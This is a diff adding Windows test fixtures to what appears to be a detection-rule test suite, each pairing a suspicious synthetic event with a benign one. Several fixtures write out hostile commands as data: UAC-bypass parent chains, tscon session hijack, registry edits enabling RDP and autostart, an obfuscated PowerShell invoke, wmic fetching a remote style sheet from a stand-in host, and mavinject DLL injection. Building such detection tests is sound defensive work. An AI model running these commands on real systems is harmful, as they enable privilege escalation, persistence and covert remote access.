@@ -325,6 +325,155 @@ WINDOWS: dict[str, tuple[Sent, Sent]] = {
         ran("cipher.exe", "cipher /w:C:\\data"),
         ran("cipher.exe", "cipher /e C:\\data"),
     ),
+    "windows_elevation_helper_starts_program": (
+        ran("cmd.exe", "cmd.exe /c notepad.exe", parent="sdclt.exe"),
+        ran("control.exe", "control.exe /name Microsoft.BackupAndRestore", parent="sdclt.exe"),
+    ),
+    "windows_elevation_by_class_object": (
+        ran(
+            "cmd.exe",
+            "cmd.exe",
+            parent="dllhost.exe",
+            ParentCommandLine="DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
+        ),
+        ran(
+            "cmd.exe",
+            "cmd.exe",
+            parent="dllhost.exe",
+            ParentCommandLine="DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
+        ),
+    ),
+    "windows_elevation_by_user_variable": (
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKU\\S-1-5-21-1\\Environment\\windir",
+            Details="C:\\Users\\ann\\AppData\\Local\\Temp\\x",
+        ),
+        of(13, "reg.exe", TargetObject="HKU\\S-1-5-21-1\\Environment\\TEMP", Details="D:\\temp"),
+    ),
+    "windows_elevation_by_imitated_folder": (
+        of(11, "a.exe", TargetFilename="C:\\Windows \\System32\\winmm.dll"),
+        of(11, "a.exe", TargetFilename="C:\\Windows\\System32\\winmm.dll"),
+    ),
+    "windows_library_extracted_into_system_folder": (
+        ran("wusa.exe", "wusa C:\\t\\a.cab /extract:C:\\Windows\\System32\\sysprep"),
+        ran("wusa.exe", "wusa C:\\t\\kb1.msu /quiet /norestart"),
+    ),
+    "windows_library_planted_beside_system_program": (
+        of(11, "a.exe", TargetFilename="C:\\Windows\\System32\\sysprep\\cryptbase.dll"),
+        of(11, "TiWorker.exe", TargetFilename="C:\\Windows\\System32\\sysprep\\spopk.dll"),
+    ),
+    "windows_console_starts_shell": (
+        ran("cmd.exe", "cmd.exe", parent="mmc.exe"),
+        ran("werfault.exe", "werfault.exe -u", parent="mmc.exe"),
+    ),
+    "windows_remote_desktop_enabled": (
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKLM\\x\\Control\\Terminal Server\\fDenyTSConnections",
+            Details="DWORD (0x00000000)",
+        ),
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKLM\\x\\Control\\Terminal Server\\fDenyTSConnections",
+            Details="DWORD (0x00000001)",
+        ),
+    ),
+    "windows_remote_desktop_enabled_by_command": (
+        ran("reg.exe", 'reg add "HKLM\\x\\Terminal Server" /v fDenyTSConnections /d 0 /f'),
+        ran("reg.exe", 'reg add "HKLM\\x\\Terminal Server" /v fDenyTSConnections /d 1 /f'),
+    ),
+    "windows_remote_desktop_session_watched": (
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKLM\\x\\Windows NT\\Terminal Services\\Shadow",
+            Details="DWORD (0x00000002)",
+        ),
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKLM\\x\\Windows NT\\Terminal Services\\Shadow",
+            Details="DWORD (0x00000001)",
+        ),
+    ),
+    "windows_remote_desktop_session_taken": (
+        ran("tscon.exe", "tscon 2 /dest:rdp-tcp#5"),
+        ran("tscon.exe", "tscon 2 /v"),
+    ),
+    "windows_remote_desktop_runs_sent_command": (
+        ran("C:\\t\\a.exe", "a.exe computername=srv1 command=cmd.exe username=u password=p"),
+        ran("C:\\t\\a.exe", "a.exe --computername srv1"),
+    ),
+    "windows_wmi_script_consumer_started": (
+        ran(
+            "C:\\Windows\\System32\\wbem\\scrcons.exe",
+            "scrcons.exe -Embedding",
+            parent="svchost.exe",
+        ),
+        ran("C:\\tools\\scrcons.exe", "scrcons.exe", parent="svchost.exe"),
+    ),
+    "windows_wmi_subscription_registered": (
+        log(
+            "Microsoft-Windows-WMI-Activity/Operational",
+            5861,
+            "Microsoft-Windows-WMI-Activity",
+            PossibleCause="instance of CommandLineEventConsumer {CommandLineTemplate=cmd}",
+        ),
+        log(
+            "Microsoft-Windows-WMI-Activity/Operational",
+            5861,
+            "Microsoft-Windows-WMI-Activity",
+            PossibleCause="instance of NTEventLogEventConsumer {Name=SCM Event Log Consumer}",
+        ),
+    ),
+    "windows_wmi_starts_interpreter": (
+        ran("powershell.exe", "powershell $env:a1|.(gcm ('{1}e{0}'-f'x','i'))", parent=_WMI),
+        ran("powershell.exe", "powershell -File C:\\Tools\\inventory.ps1", parent=_WMI),
+    ),
+    "windows_wmi_writes_autostart": (
+        of(
+            13,
+            _WMI,
+            TargetObject="HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\a",
+            Details="a",
+        ),
+        of(
+            13,
+            _WMI,
+            TargetObject="HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall",
+            Details="",
+        ),
+    ),
+    "windows_service_host_writes_remote_autostart": (
+        of(13, "svchost.exe", TargetObject=_RUN, Details="rundll32.exe smssvc.dll,Start"),
+        of(13, "svchost.exe", TargetObject=_RUN, Details="C:\\Program Files\\Sync\\s.exe"),
+    ),
+    "windows_wmic_runs_style_sheet": (
+        ran("C:\\x\\wmic.exe", 'wmic os get /format:"https://x.invalid/a.xsl"'),
+        ran("C:\\x\\wmic.exe", "wmic os get caption /format:list"),
+    ),
+    "windows_thread_started_in_other_program": (
+        sysmon(
+            8,
+            SourceProcessGuid=_GUID,
+            SourceImage="C:\\Windows\\System32\\wscript.exe",
+            TargetImage="C:\\Windows\\System32\\notepad.exe",
+        ),
+        sysmon(
+            8,
+            SourceProcessGuid=_GUID,
+            SourceImage="C:\\Windows\\System32\\csrss.exe",
+            TargetImage="C:\\Windows\\System32\\notepad.exe",
+        ),
+    ),
+    "windows_library_injected_by_command": (
+        ran("mavinject.exe", "mavinject.exe 3300 /INJECTRUNNING C:\\t\\a.dll"),
+        ran("mavinject.exe", "mavinject.exe /help"),
+    ),
 }
 
 UNIX: dict[str, tuple[Sent, Sent]] = {
